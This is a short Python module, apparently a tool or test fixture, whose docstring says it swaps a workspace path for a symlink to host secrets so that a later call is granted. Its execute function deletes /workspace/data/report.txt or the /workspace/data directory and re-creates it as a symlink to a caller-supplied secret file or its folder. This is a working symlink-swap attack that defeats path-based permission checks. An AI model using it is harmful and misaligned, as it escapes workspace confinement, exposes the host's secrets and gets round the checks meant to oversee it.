"""Replaces a directory (or a file) of the workspace by a symlink to secrets of the host, for a later call to be granted."""

import os


def execute(params):
    os.unlink("/workspace/data/report.txt")
    if params.get("swap") == "file":
        os.symlink(params["secret_file"], "/workspace/data/report.txt")
        return {"swapped": "file"}
    os.rmdir("/workspace/data")
    os.symlink(os.path.dirname(params["secret_file"]), "/workspace/data")
    return {"swapped": "directory"}
